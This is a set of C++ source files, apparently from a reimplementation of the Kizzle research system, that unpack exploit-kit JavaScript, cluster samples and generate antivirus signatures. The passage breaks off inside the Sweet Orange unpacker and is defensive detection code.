        text::abstract_tokens(data[i].tokens, cfg_.abstraction, interner_);
    data[i].normalized = sig::normalized_token_text(data[i].tokens);
  }

  // ---- Deduplicate identical abstract streams into weighted points. ----
  std::unordered_map<std::uint64_t, std::size_t> by_hash;  // hash -> unique idx
  std::vector<std::vector<std::uint32_t>> unique_streams;
  std::vector<std::size_t> weights;
  std::vector<std::vector<std::size_t>> members;  // unique idx -> sample idx
  for (std::size_t i = 0; i < data.size(); ++i) {
    const std::uint64_t h = fnv1a64(std::span<const std::uint32_t>(data[i].stream));
    auto it = by_hash.find(h);
    // Hash collision guard: verify stream equality before merging.
    if (it != by_hash.end() &&
        unique_streams[it->second] == data[i].stream) {
      ++weights[it->second];
      members[it->second].push_back(i);
    } else {
      by_hash.emplace(h, unique_streams.size());
      unique_streams.push_back(data[i].stream);
      weights.push_back(1);
      members.push_back({i});
    }
  }

  // ---- Partitioned DBSCAN (Fig 7 map/reduce). ----
  if (!pool_) pool_ = std::make_unique<ThreadPool>(cfg_.threads);
  cluster::PartitionedParams pparams;
  pparams.partitions = cfg_.partitions;
  pparams.threads = cfg_.threads;
  pparams.dbscan = cfg_.dbscan;
  pparams.pool = pool_.get();
  cluster::PartitionedClusterer clusterer(pparams);
  const cluster::ClusterSet cs =
      clusterer.run(unique_streams, weights, rng_);
  report.cluster_stats = clusterer.stats();
  report.n_clusters = cs.clusters.size();
  for (std::size_t u : cs.noise) report.n_noise_samples += weights[u];

  // ---- Label each cluster and issue signatures. ----
  for (const auto& unique_members : cs.clusters) {
    ClusterReport cr;
    const std::size_t medoid_u = cluster_medoid(unique_members, unique_streams);
    for (std::size_t u : unique_members) {
      cr.samples.insert(cr.samples.end(), members[u].begin(),
                        members[u].end());
    }
    // Prototype: the first sample carrying the medoid stream.
    const std::size_t proto_sample = members[medoid_u].front();
    const std::string proto_script =
        text::inline_script_text(html_docs[proto_sample]);
    auto unpacked = unpack::unpack_fixpoint(proto_script);
    if (unpacked) {
      cr.unpacked = true;
      cr.unpacker = std::string(unpacked->unpacker);
      cr.prototype_text = text::normalize_js(unpacked->text);
    } else {
      cr.prototype_text = text::normalize_js(proto_script);
    }
    const auto proto_fps =
        winnow::FingerprintSet::of_text(cr.prototype_text, cfg_.winnow);
    const LabelScore score = corpus_.label(proto_fps);
    cr.overlap = score.overlap;
    if (!score.family.empty()) {
      cr.label = score.family;
      corpus_.add_sample(score.family, cr.prototype_text);
      process_cluster(day, data, cr);
    }
    report.clusters.push_back(std::move(cr));
  }

  report.seconds = std::chrono::duration<double>(
                       std::chrono::steady_clock::now() - t0)
                       .count();
  return report;
}

void KizzlePipeline::process_cluster(int day,
                                     const std::vector<SampleData>& data,
                                     ClusterReport& cr) {
  // Coverage check: do existing family signatures still match the
  // cluster's samples?
  std::size_t covered = 0;
  for (std::size_t s : cr.samples) {
    for (std::size_t i = 0; i < compiled_.size(); ++i) {
      if (signatures_[i].family != cr.label) continue;
      if (compiled_[i].search(data[s].normalized).matched) {
        ++covered;
        break;
      }
    }
  }
  const double coverage = cr.samples.empty()
                              ? 1.0
                              : static_cast<double>(covered) /
                                    static_cast<double>(cr.samples.size());
  cr.coverage = coverage;
  if (coverage >= cfg_.coverage_threshold) return;

  // Compile a new signature from (up to max_signature_samples of) the
  // cluster's packed samples.
  std::vector<std::vector<text::Token>> sample_tokens;
  const std::size_t n =
      std::min(cr.samples.size(), cfg_.max_signature_samples);
  sample_tokens.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    sample_tokens.push_back(data[cr.samples[i]].tokens);
  }
  const sig::Signature signature =
      sig::compile_signature(sample_tokens, cfg_.signature);
  if (!signature.ok) {
    cr.signature_failure = signature.failure;
    return;
  }

  DeployedSignature dep;
  dep.name = "KZ." + cr.label + "." + std::to_string(++sig_counter_);
  dep.family = cr.label;
  dep.issued_day = day;
  dep.pattern = signature.pattern;
  dep.token_length = signature.token_length;
  compiled_.push_back(match::Pattern::compile(signature.pattern));
  signatures_.push_back(std::move(dep));
  // Deployments are rare (one per packer change, Fig 12), so rebuilding
  // the whole prefilter here keeps the scan paths allocation- and
  // lock-free.
  sig_prefilter_.add(compiled_.size() - 1, compiled_.back().required_literal());
  sig_prefilter_.build();
  cr.issued_signature = true;
  cr.signature_name = signatures_.back().name;
}

}  // namespace kizzle::core
