#include "core/pipeline.h"

#include <algorithm>
#include <chrono>
#include <unordered_map>

#include "analyze/analyze.h"
#include "core/sigdb.h"
#include "support/hash.h"
#include "text/html.h"
#include "text/lexer.h"
#include "text/normalize.h"
#include "unpack/unpackers.h"

namespace kizzle::core {

unpack::UnpackLimits unpack_limits_of(const engine::ScanLimits& limits,
                                      std::size_t input_bytes) {
  unpack::UnpackLimits ul;  // conservative defaults
  if (limits.max_unpack_layers > 0) ul.max_layers = limits.max_unpack_layers;
  if (limits.max_unpack_total_bytes > 0) {
    ul.max_total_bytes = limits.max_unpack_total_bytes;
  }
  if (limits.max_expansion_ratio > 0.0 && input_bytes > 0) {
    const double capped =
        limits.max_expansion_ratio * static_cast<double>(input_bytes);
    if (capped < static_cast<double>(ul.max_total_bytes)) {
      ul.max_total_bytes = static_cast<std::size_t>(capped);
    }
  }
  return ul;
}

KizzlePipeline::KizzlePipeline(PipelineConfig cfg, std::uint64_t seed)
    : cfg_(cfg),
      rng_(seed),
      corpus_(cfg.winnow, cfg.corpus_max_per_family) {}

void KizzlePipeline::seed_family(const std::string& family, double threshold,
                                 const std::string& unpacked_payload) {
  corpus_.add_family(family, threshold);
  corpus_.add_sample(family, text::normalize_js(unpacked_payload));
}

std::optional<std::size_t> KizzlePipeline::scan(
    std::string_view normalized_text) const {
  if (signatures_.empty()) return std::nullopt;
  // Events arrive in ascending index order == issue order, so the first
  // event is the first-match answer. Scratches come from the pool:
  // coverage checks scan every cluster sample, possibly from pool workers.
  auto scratch = scratches_.acquire();
  const auto hit = engine::first_match(db_, normalized_text, *scratch);
  if (!hit) return std::nullopt;
  return hit->sig_index;
}

std::optional<std::size_t> KizzlePipeline::scan_as_of(
    std::string_view normalized_text, int day, bool include_same_day) const {
  if (signatures_.empty()) return std::nullopt;
  auto scratch = scratches_.acquire();
  std::optional<std::size_t> hit;
  // The deployment-day gate runs as the engine's pre-confirmation filter:
  // signatures not yet live on `day` are skipped before the VM runs.
  engine::scan(
      db_, normalized_text, *scratch,
      [this, day, include_same_day](std::size_t i) {
        const int issued = signatures_[i].issued_day;
        return issued < day || (issued == day && include_same_day);
      },
      [&hit](const engine::MatchEvent& event) {
        hit = event.sig_index;
        return engine::ScanDecision::Stop;
      });
  return hit;
}

void KizzlePipeline::export_artifact(std::ostream& os) const {
  // The automaton maintained across deployments is the release build (an
  // empty database still carries a built-but-empty automaton).
  save_artifact(os, signatures_, &db_.prefilter());
}

void KizzlePipeline::export_delta(std::ostream& os, int base_day) const {
  // signatures_ is append-only in ascending issue order, so "the set as
  // of base_day" is a prefix of today's list.
  std::size_t base_count = 0;
  while (base_count < signatures_.size() &&
         signatures_[base_count].issued_day <= base_day) {
    ++base_count;
  }
  const std::vector<DeployedSignature> base(
      signatures_.begin(),
      signatures_.begin() + static_cast<std::ptrdiff_t>(base_count));
  DeltaArtifact delta;
  delta.base_fingerprint = fingerprint(base);
  delta.result_fingerprint = fingerprint(signatures_);
  delta.added.assign(
      signatures_.begin() + static_cast<std::ptrdiff_t>(base_count),
      signatures_.end());
  save_delta(os, delta);
}

std::size_t KizzlePipeline::cluster_medoid(
    const std::vector<std::size_t>& members,
    const std::vector<std::vector<std::uint32_t>>& streams) {
  if (members.size() == 1) return members[0];
  constexpr std::size_t kCap = 16;
  const std::size_t m = std::min(members.size(), kCap);
  std::size_t best = members[0];
  double best_total = 0.0;
  for (std::size_t i = 0; i < m; ++i) {
    double total = 0.0;
    for (std::size_t j = 0; j < m; ++j) {
      if (i == j) continue;
      total += dist::normalized_edit_distance(streams[members[i]],
                                              streams[members[j]]);
    }
    if (i == 0 || total < best_total) {
      best_total = total;
      best = members[i];
    }
  }
  return best;
}

DayReport KizzlePipeline::process_day(
    int day, const std::vector<std::string>& html_docs) {
  const auto t0 = std::chrono::steady_clock::now();
  DayReport report;
  report.day = day;
  report.n_samples = html_docs.size();

  // ---- Tokenize and abstract every sample. ----
  std::vector<SampleData> data(html_docs.size());
  for (std::size_t i = 0; i < html_docs.size(); ++i) {
    const std::string script = text::inline_script_text(html_docs[i]);
    data[i].tokens = text::lex(script, text::LexOptions{.tolerant = true});
    data[i].stream =
        text::abstract_tokens(data[i].tokens, cfg_.abstraction, interner_);
    data[i].normalized = sig::normalized_token_text(data[i].tokens);
  }

  // ---- Deduplicate identical abstract streams into weighted points. ----
  std::unordered_map<std::uint64_t, std::size_t> by_hash;  // hash -> unique idx
  std::vector<std::vector<std::uint32_t>> unique_streams;
  std::vector<std::size_t> weights;
  std::vector<std::vector<std::size_t>> members;  // unique idx -> sample idx
  for (std::size_t i = 0; i < data.size(); ++i) {
    const std::uint64_t h = fnv1a64(std::span<const std::uint32_t>(data[i].stream));
    auto it = by_hash.find(h);
    // Hash collision guard: verify stream equality before merging.
    if (it != by_hash.end() &&
        unique_streams[it->second] == data[i].stream) {
      ++weights[it->second];
      members[it->second].push_back(i);
    } else {
      by_hash.emplace(h, unique_streams.size());
      unique_streams.push_back(data[i].stream);
      weights.push_back(1);
      members.push_back({i});
    }
  }

  // ---- Partitioned DBSCAN (Fig 7 map/reduce). ----
  if (!pool_) pool_ = std::make_unique<ThreadPool>(cfg_.threads);
  cluster::PartitionedParams pparams;
  pparams.partitions = cfg_.partitions;
  pparams.threads = cfg_.threads;
  pparams.dbscan = cfg_.dbscan;
  pparams.pool = pool_.get();
  cluster::PartitionedClusterer clusterer(pparams);
  const cluster::ClusterSet cs =
      clusterer.run(unique_streams, weights, rng_);
  report.cluster_stats = clusterer.stats();
  report.n_clusters = cs.clusters.size();
  for (std::size_t u : cs.noise) report.n_noise_samples += weights[u];

  // ---- Label each cluster and issue signatures. ----
  for (const auto& unique_members : cs.clusters) {
    ClusterReport cr;
    const std::size_t medoid_u = cluster_medoid(unique_members, unique_streams);
    for (std::size_t u : unique_members) {
      cr.samples.insert(cr.samples.end(), members[u].begin(),
                        members[u].end());
    }
    // Prototype: the first sample carrying the medoid stream.
    const std::size_t proto_sample = members[medoid_u].front();
    const std::string proto_script =
        text::inline_script_text(html_docs[proto_sample]);
    auto unpacked = unpack::unpack_fixpoint(
        proto_script,
        unpack_limits_of(cfg_.scan_limits, proto_script.size()));
    if (unpacked && !unpacked->text.empty()) {
      cr.unpacked = true;
      cr.unpacker = std::string(unpacked->unpacker);
      cr.prototype_text = text::normalize_js(unpacked->text);
    } else {
      // No unpacker fired, or the governor withheld an over-budget decode
      // (text cleared, budget_exhausted set): fall back to the packed
      // script rather than clustering on an empty prototype.
      cr.prototype_text = text::normalize_js(proto_script);
    }
    const auto proto_fps =
        winnow::FingerprintSet::of_text(cr.prototype_text, cfg_.winnow);
    const LabelScore score = corpus_.label(proto_fps);
    cr.overlap = score.overlap;
    if (!score.family.empty()) {
      cr.label = score.family;
      corpus_.add_sample(score.family, cr.prototype_text);
      process_cluster(day, data, cr);
    }
    report.clusters.push_back(std::move(cr));
  }

  report.seconds = std::chrono::duration<double>(
                       std::chrono::steady_clock::now() - t0)
                       .count();
  return report;
}

void KizzlePipeline::process_cluster(int day,
                                     const std::vector<SampleData>& data,
                                     ClusterReport& cr) {
  // Coverage check: do existing family signatures still match the
  // cluster's samples? Other families' signatures are filtered out before
  // confirmation; the first family event covers the sample.
  std::size_t covered = 0;
  auto scratch = scratches_.acquire();
  for (std::size_t s : cr.samples) {
    bool matched = false;
    engine::scan(
        db_, data[s].normalized, *scratch,
        [this, &cr](std::size_t i) {
          return signatures_[i].family == cr.label;
        },
        [&matched](const engine::MatchEvent&) {
          matched = true;
          return engine::ScanDecision::Stop;
        });
    if (matched) ++covered;
  }
  const double coverage = cr.samples.empty()
                              ? 1.0
                              : static_cast<double>(covered) /
                                    static_cast<double>(cr.samples.size());
  cr.coverage = coverage;
  if (coverage >= cfg_.coverage_threshold) return;

  // Compile a new signature from (up to max_signature_samples of) the
  // cluster's packed samples.
  std::vector<std::vector<text::Token>> sample_tokens;
  const std::size_t n =
      std::min(cr.samples.size(), cfg_.max_signature_samples);
  sample_tokens.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    sample_tokens.push_back(data[cr.samples[i]].tokens);
  }
  const sig::Signature signature =
      sig::compile_signature(sample_tokens, cfg_.signature);
  if (!signature.ok) {
    cr.signature_failure = signature.failure;
    return;
  }

  match::Pattern compiled = match::Pattern::compile(signature.pattern);
  const std::string name =
      "KZ." + cr.label + "." + std::to_string(sig_counter_ + 1);

  // Pre-deployment lint gate: the compiled program and its relation to
  // the already-deployed set are statically analyzed before the signature
  // ships (analyze/analyze.h). An error-severity finding — catastrophic
  // backtracking, a signature dead on normalized text, one shadowed by an
  // existing pure literal — vetoes the release: deploying it would cost
  // every worker scan time (or detections) until the next release.
  if (cfg_.lint_deployments) {
    const analyze::Report lint = analyze::analyze_candidate(db_, name, compiled);
    if (!lint.clean()) {
      for (const analyze::Finding& f : lint.findings) {
        if (f.severity != analyze::Severity::kError) continue;
        cr.signature_failure = std::string("lint: [") +
                               analyze::check_name(f.check) + "] " + f.message;
        break;
      }
      return;
    }
  }

  DeployedSignature dep;
  dep.name = name;
  dep.family = cr.label;
  dep.issued_day = day;
  dep.pattern = signature.pattern;
  dep.token_length = signature.token_length;
  ++sig_counter_;
  signatures_.push_back(std::move(dep));
  // Incremental deployment: only the new signature is compiled; existing
  // entries are shared into the extended database and the prefilter is
  // rebuilt (rare — one deployment per packer change, Fig 12), keeping the
  // scan paths allocation- and lock-free.
  const DeployedSignature& issued = signatures_.back();
  db_ = db_.extend(engine::Database::Entry{issued.name, issued.family,
                                           std::move(compiled)});
  cr.issued_signature = true;
  cr.signature_name = signatures_.back().name;
}

}  // namespace kizzle::core
