// Kit-specific unpackers (paper §III.A).
//
// "This unpacking step can be conducted by hooking into the eval loop of
//  the JavaScript engine. For our work, which focuses on a fixed set of
//  exploit kits, we instead implemented unpackers for all kits under
//  investigation."
//
// Each unpacker statically reverses one packing scheme from the token
// stream of a packed script: no JavaScript execution is involved. An
// unpacker first runs a cheap plausibility test (distinctive token
// patterns), then attempts a full decode; any inconsistency yields
// nullopt rather than an exception.
#pragma once

#include <memory>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "text/token.h"

namespace kizzle::unpack {

class Unpacker {
 public:
  virtual ~Unpacker() = default;
  virtual std::string_view name() const = 0;
  // Cheap structural precondition on the token stream.
  virtual bool plausible(std::span<const text::Token> tokens) const = 0;
  // Full decode; nullopt when the stream does not fit the scheme.
  virtual std::optional<std::string> try_unpack(
      std::span<const text::Token> tokens) const = 0;
};

std::unique_ptr<Unpacker> make_rig_unpacker();
std::unique_ptr<Unpacker> make_nuclear_unpacker();
std::unique_ptr<Unpacker> make_angler_unpacker();
std::unique_ptr<Unpacker> make_sweet_orange_unpacker();

// The default registry with all four unpackers.
const std::vector<std::unique_ptr<Unpacker>>& default_unpackers();

// Resource bounds on the multi-layer fixpoint. The input is by definition
// attacker-crafted (it is a packed exploit kit), so every axis a hostile
// stream could stretch is capped: onion depth, cumulative decoded output
// across layers, and — always on — repeated-state detection so a packer
// quine (a layer that decodes to itself, or to an earlier layer) stops
// the loop instead of spinning until the layer cap eats the work.
struct UnpackLimits {
  int max_layers = 4;
  // Cumulative decoded bytes across all layers (0 = unlimited). A layer
  // whose decode would cross the cap is not kept; the fixpoint stops and
  // reports budget_exhausted with the last in-budget layer's text.
  std::size_t max_total_bytes = std::size_t{64} << 20;  // 64 MiB
};

// Tries every registered unpacker on `source` (tokenized tolerantly);
// returns the first successful decode together with the unpacker's name.
// `layers`/`budget_exhausted`/`cycle_detected` are only meaningful on
// results from unpack_fixpoint.
struct UnpackResult {
  std::string text;
  std::string_view unpacker;
  int layers = 1;                // onion layers successfully decoded
  bool budget_exhausted = false; // stopped on max_total_bytes
  bool cycle_detected = false;   // stopped on a repeated layer state
};
std::optional<UnpackResult> unpack_script(std::string_view source);
// Same, over an explicit registry (tests inject adversarial unpackers —
// quines, expanders — that the shipped registry cannot produce).
std::optional<UnpackResult> unpack_script(
    std::string_view source,
    std::span<const std::unique_ptr<Unpacker>> unpackers);

// Unpacks repeatedly until no unpacker fires (multi-layer "onion"
// packing) or a limit trips. Returns the innermost in-budget text, or
// nullopt when the first layer already fails; the flags on the result say
// whether depth/byte budgets or cycle detection (not convergence) ended
// the loop.
std::optional<UnpackResult> unpack_fixpoint(std::string_view source,
                                            int max_layers = 4);
std::optional<UnpackResult> unpack_fixpoint(std::string_view source,
                                            const UnpackLimits& limits);
std::optional<UnpackResult> unpack_fixpoint(
    std::string_view source, const UnpackLimits& limits,
    std::span<const std::unique_ptr<Unpacker>> unpackers);

}  // namespace kizzle::unpack
