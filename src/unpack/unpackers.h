// Kit-specific unpackers (paper §III.A).
//
// "This unpacking step can be conducted by hooking into the eval loop of
//  the JavaScript engine. For our work, which focuses on a fixed set of
//  exploit kits, we instead implemented unpackers for all kits under
//  investigation."
//
// Each unpacker statically reverses one packing scheme from the token
// stream of a packed script: no JavaScript execution is involved. An
// unpacker first runs a cheap plausibility test (distinctive token
// patterns), then attempts a full decode; any inconsistency yields
// nullopt rather than an exception.
#pragma once

#include <memory>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "text/token.h"

namespace kizzle::unpack {

class Unpacker {
 public:
  virtual ~Unpacker() = default;
  virtual std::string_view name() const = 0;
  // Cheap structural precondition on the token stream.
  virtual bool plausible(std::span<const text::Token> tokens) const = 0;
  // Full decode; nullopt when the stream does not fit the scheme.
  virtual std::optional<std::string> try_unpack(
      std::span<const text::Token> tokens) const = 0;
};

std::unique_ptr<Unpacker> make_rig_unpacker();
std::unique_ptr<Unpacker> make_nuclear_unpacker();
std::unique_ptr<Unpacker> make_angler_unpacker();
std::unique_ptr<Unpacker> make_sweet_orange_unpacker();

// The default registry with all four unpackers.
const std::vector<std::unique_ptr<Unpacker>>& default_unpackers();

// Tries every registered unpacker on `source` (tokenized tolerantly);
// returns the first successful decode together with the unpacker's name.
struct UnpackResult {
  std::string text;
  std::string_view unpacker;
};
std::optional<UnpackResult> unpack_script(std::string_view source);

// Unpacks repeatedly until no unpacker fires (multi-layer "onion"
// packing, capped at max_layers). Returns the innermost text, or nullopt
// when the first layer already fails.
std::optional<UnpackResult> unpack_fixpoint(std::string_view source,
                                            int max_layers = 4);

}  // namespace kizzle::unpack
