// Token-stream utilities shared by the kit unpackers: JS string-literal
// decoding and assignment harvesting. The unpackers work on token streams
// (not regexes) so they tolerate the identifier randomization the packers
// apply per sample.
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>

#include "text/token.h"

namespace kizzle::unpack {

// Decodes a JavaScript string literal (including its quotes) to its value.
// Handles \\ \" \' \n \r \t \f \v \0; unknown escapes pass the escaped
// character through (ECMAScript semantics).
std::string js_unescape(std::string_view literal);

// Harvests `[var] IDENT = "..."` assignments: identifier -> decoded value.
// The *first* assignment wins (kit packers assign once; later reads must
// not be confused by reassignments in the decode loop).
std::unordered_map<std::string, std::string> string_assignments(
    std::span<const text::Token> tokens);

// Harvests `[var] IDENT = <number>` assignments (decimal/hex literals).
std::unordered_map<std::string, long long> numeric_assignments(
    std::span<const text::Token> tokens);

// True if the token at `i` is a punctuator with exactly this text.
bool is_punct(std::span<const text::Token> t, std::size_t i,
              std::string_view text);

// True if the token at `i` is an identifier with exactly this text.
bool is_ident(std::span<const text::Token> t, std::size_t i,
              std::string_view text);

// Parses a numeric token (decimal or 0x hex). nullopt on overflow/garbage.
std::optional<long long> parse_number(const text::Token& t);

// A plausibility heuristic for unpacked payloads: the text lexes and looks
// like JavaScript code of non-trivial size.
bool looks_like_script(std::string_view s);

}  // namespace kizzle::unpack
