#include "unpack/unpackers.h"

#include <algorithm>
#include <charconv>
#include <cmath>
#include <cstdint>

#include "text/lexer.h"
#include "unpack/token_util.h"

namespace kizzle::unpack {

namespace {

using text::Token;
using text::TokenClass;

bool all_in(std::string_view s, std::string_view alphabet) {
  return !s.empty() && s.find_first_not_of(alphabet) == std::string_view::npos;
}

// ----------------------------------------------------------------- RIG --
//
// var B=""; var D="y6"; function C(t){B+=t;}
// C("47y642y6100y6"); ...
// P=B.split(D); ... String.fromCharCode(P[i]) ...
class RigUnpacker final : public Unpacker {
 public:
  std::string_view name() const override { return "rig"; }

  bool plausible(std::span<const Token> t) const override {
    bool has_split = false;
    bool has_fcc = false;
    bool has_append = false;
    for (std::size_t i = 0; i < t.size(); ++i) {
      if (is_ident(t, i, "split")) has_split = true;
      if (is_ident(t, i, "fromCharCode")) has_fcc = true;
      if (is_punct(t, i, "+=")) has_append = true;
    }
    return has_split && has_fcc && has_append;
  }

  std::optional<std::string> try_unpack(
      std::span<const Token> t) const override {
    // 1. The collector: function F(a){ ... B+=a; ... }. The body is
    // scanned, not pattern-matched rigidly: adversarial variants insert
    // superfluous statements inside it (see pack_rig_adversarial).
    std::string collector;
    for (std::size_t i = 0; i + 9 < t.size() && collector.empty(); ++i) {
      if (!(t[i].cls == TokenClass::Keyword && t[i].text == "function" &&
            t[i + 1].cls == TokenClass::Identifier &&
            is_punct(t, i + 2, "(") &&
            t[i + 3].cls == TokenClass::Identifier &&
            is_punct(t, i + 4, ")") && is_punct(t, i + 5, "{"))) {
        continue;
      }
      const std::string& param = t[i + 3].text;
      // Scan the body (brace-balanced, bounded) for `IDENT += param`.
      int depth = 1;
      for (std::size_t j = i + 6; j + 2 < t.size() && j < i + 64 && depth > 0;
           ++j) {
        if (is_punct(t, j, "{")) ++depth;
        if (is_punct(t, j, "}")) --depth;
        if (t[j].cls == TokenClass::Identifier && is_punct(t, j + 1, "+=") &&
            is_ident(t, j + 2, param)) {
          collector = t[i + 1].text;
          break;
        }
      }
    }
    if (collector.empty()) return std::nullopt;

    // 2. The delimiter: ... .split(D) with var D="...".
    const auto strings = string_assignments(t);
    std::string delim;
    for (std::size_t i = 0; i + 3 < t.size(); ++i) {
      if (is_ident(t, i, "split") && is_punct(t, i + 1, "(") &&
          t[i + 2].cls == TokenClass::Identifier && is_punct(t, i + 3, ")")) {
        auto it = strings.find(t[i + 2].text);
        if (it != strings.end()) delim = it->second;
        break;
      }
    }
    if (delim.empty()) return std::nullopt;

    // 3. Collector calls, in order.
    std::string buffer;
    for (std::size_t i = 0; i + 3 < t.size(); ++i) {
      if (is_ident(t, i, collector) && is_punct(t, i + 1, "(") &&
          t[i + 2].cls == TokenClass::String && is_punct(t, i + 3, ")")) {
        buffer += js_unescape(t[i + 2].text);
      }
    }
    if (buffer.empty()) return std::nullopt;

    // 4. Split and decode.
    std::string out;
    std::size_t pos = 0;
    while (pos < buffer.size()) {
      std::size_t hit = buffer.find(delim, pos);
      if (hit == std::string::npos) hit = buffer.size();
      const std::string_view piece =
          std::string_view(buffer).substr(pos, hit - pos);
      // Empty pieces (doubled/trailing delimiters) are skipped; anything
      // else must parse as a charcode in [0, 255]. from_chars reports
      // overflow instead of the UB std::atoi had here, and a piece that is
      // not pure digits (sign, junk) fails the full-consumption check —
      // hostile streams reject the unpack rather than decode garbage.
      if (!piece.empty()) {
        int code = 0;
        const auto [end, ec] =
            std::from_chars(piece.data(), piece.data() + piece.size(), code);
        if (ec != std::errc{} || end != piece.data() + piece.size() ||
            code < 0 || code > 255) {
          return std::nullopt;
        }
        out.push_back(static_cast<char>(static_cast<unsigned char>(code)));
      }
      pos = hit + delim.size();
    }
    if (!looks_like_script(out)) return std::nullopt;
    return out;
  }
};

// ------------------------------------------------------------- Nuclear --
//
// var p="236100..."; var k="<shuffled alphabet>";
// ... out+=k.charAt(parseInt(p.substr(i,2),R)); ...
class NuclearUnpacker final : public Unpacker {
 public:
  std::string_view name() const override { return "nuclear"; }

  bool plausible(std::span<const Token> t) const override {
    // The decode idiom: charAt ( parseInt — Nuclear-specific among our
    // schemes (Sweet Orange uses fromCharCode ( parseInt).
    for (std::size_t i = 0; i + 2 < t.size(); ++i) {
      if (is_ident(t, i, "charAt") && is_punct(t, i + 1, "(") &&
          is_ident(t, i + 2, "parseInt")) {
        return true;
      }
    }
    return false;
  }

  std::optional<std::string> try_unpack(
      std::span<const Token> t) const override {
    // 1. Radix: parseInt(X.substr(i,2),R).
    int radix = 0;
    for (std::size_t i = 0; i + 2 < t.size(); ++i) {
      if (is_ident(t, i, "substr")) {
        // scan forward for "), RADIX )"
        for (std::size_t j = i; j + 2 < t.size() && j < i + 12; ++j) {
          if (is_punct(t, j, ",") && t[j + 1].cls == TokenClass::Number &&
              is_punct(t, j + 2, ")")) {
            const auto v = parse_number(t[j + 1]);
            if (v && (*v == 10 || *v == 16)) {
              radix = static_cast<int>(*v);
            }
          }
        }
      }
    }
    if (radix == 0) return std::nullopt;

    // 2. The two long strings: digit payload and key.
    const std::string_view digit_alphabet =
        (radix == 10) ? "0123456789" : "0123456789abcdef";
    std::string payload_digits;
    std::string key;
    for (const Token& tok : t) {
      if (tok.cls != TokenClass::String) continue;
      const std::string v = js_unescape(tok.text);
      if (v.size() >= 40 && v.size() % 2 == 0 && all_in(v, digit_alphabet)) {
        if (v.size() > payload_digits.size()) payload_digits = v;
      } else if (v.size() >= 60) {
        if (v.size() > key.size()) key = v;
      }
    }
    if (payload_digits.empty() || key.empty()) return std::nullopt;

    // 3. Decode 2-digit indices into the key.
    std::string out;
    out.reserve(payload_digits.size() / 2);
    for (std::size_t i = 0; i + 1 < payload_digits.size(); i += 2) {
      const std::string pair = payload_digits.substr(i, 2);
      const long idx = std::strtol(pair.c_str(), nullptr, radix);
      if (idx < 0 || static_cast<std::size_t>(idx) >= key.size()) {
        return std::nullopt;
      }
      out.push_back(key[static_cast<std::size_t>(idx)]);
    }
    if (!looks_like_script(out)) return std::nullopt;
    return out;
  }
};

// -------------------------------------------------------------- Angler --
//
// var A=[283,248,...]; var F=47; ... String.fromCharCode(A[i]-F) ...
class AnglerUnpacker final : public Unpacker {
 public:
  std::string_view name() const override { return "angler"; }

  bool plausible(std::span<const Token> t) const override {
    bool has_fcc = false;
    std::size_t numeric_run = 0;
    std::size_t best_run = 0;
    for (std::size_t i = 0; i < t.size(); ++i) {
      if (is_ident(t, i, "fromCharCode")) has_fcc = true;
      if (t[i].cls == TokenClass::Number) {
        ++numeric_run;
        best_run = std::max(best_run, numeric_run);
      } else if (!is_punct(t, i, ",")) {
        numeric_run = 0;
      }
    }
    return has_fcc && best_run >= 50;
  }

  std::optional<std::string> try_unpack(
      std::span<const Token> t) const override {
    // 1. The longest numeric array literal.
    std::vector<long long> best;
    for (std::size_t i = 0; i < t.size(); ++i) {
      if (!is_punct(t, i, "[")) continue;
      std::vector<long long> run;
      std::size_t j = i + 1;
      while (j + 1 < t.size() && t[j].cls == TokenClass::Number) {
        const auto v = parse_number(t[j]);
        if (!v) break;
        run.push_back(*v);
        if (is_punct(t, j + 1, ",")) {
          j += 2;
        } else {
          ++j;
          break;
        }
      }
      if (j < t.size() && is_punct(t, j, "]") && run.size() > best.size()) {
        best = std::move(run);
      }
    }
    if (best.size() < 50) return std::nullopt;

    // 2. The shift: String.fromCharCode(A[i]-F).
    const auto numbers = numeric_assignments(t);
    std::vector<long long> candidates;
    for (std::size_t i = 0; i + 7 < t.size(); ++i) {
      if (is_ident(t, i, "fromCharCode") && is_punct(t, i + 1, "(") &&
          t[i + 2].cls == TokenClass::Identifier && is_punct(t, i + 3, "[") &&
          t[i + 4].cls == TokenClass::Identifier && is_punct(t, i + 5, "]") &&
          is_punct(t, i + 6, "-") &&
          t[i + 7].cls == TokenClass::Identifier) {
        auto it = numbers.find(t[i + 7].text);
        if (it != numbers.end()) candidates.push_back(it->second);
      }
    }
    if (candidates.empty()) {
      // Fallback: brute-force every small numeric assignment.
      for (const auto& [ident, value] : numbers) {
        (void)ident;
        if (value > 0 && value <= 512) candidates.push_back(value);
      }
    }
    for (const long long shift : candidates) {
      std::string out;
      out.reserve(best.size());
      bool ok = true;
      for (const long long code : best) {
        const long long c = code - shift;
        if (c < 0 || c > 255) {
          ok = false;
          break;
        }
        out.push_back(static_cast<char>(c));
      }
      if (ok && looks_like_script(out)) return out;
    }
    return std::nullopt;
  }
};

// -------------------------------------------------------- Sweet Orange --
//
// var a1="..q.."; ... ok=[a1.charAt(Math.sqrt(196)),...]
// var H="<hex>"; ... fromCharCode(parseInt(H.substr(i,2),16)^K.charCodeAt(..))
class SweetOrangeUnpacker final : public Unpacker {
 public:
  std::string_view name() const override { return "sweet_orange"; }

  bool plausible(std::span<const Token> t) const override {
    bool has_sqrt = false;
    bool has_xor = false;
    for (std::size_t i = 0; i + 2 < t.size(); ++i) {
      if (is_ident(t, i, "Math") && is_punct(t, i + 1, ".") &&
          is_ident(t, i + 2, "sqrt")) {
        has_sqrt = true;
      }
      if (is_punct(t, i, "^")) has_xor = true;
    }
    return has_sqrt && has_xor;
  }

  std::optional<std::string> try_unpack(
      std::span<const Token> t) const override {
    const auto strings = string_assignments(t);

    // 1. Key characters: IDENT.charAt(Math.sqrt(NUM)), in order.
    std::string key;
    for (std::size_t i = 0; i + 9 < t.size(); ++i) {
      if (t[i].cls == TokenClass::Identifier && is_punct(t, i + 1, ".") &&
          is_ident(t, i + 2, "charAt") && is_punct(t, i + 3, "(") &&
          is_ident(t, i + 4, "Math") && is_punct(t, i + 5, ".") &&
          is_ident(t, i + 6, "sqrt") && is_punct(t, i + 7, "(") &&
          t[i + 8].cls == TokenClass::Number && is_punct(t, i + 9, ")")) {
        const auto sq = parse_number(t[i + 8]);
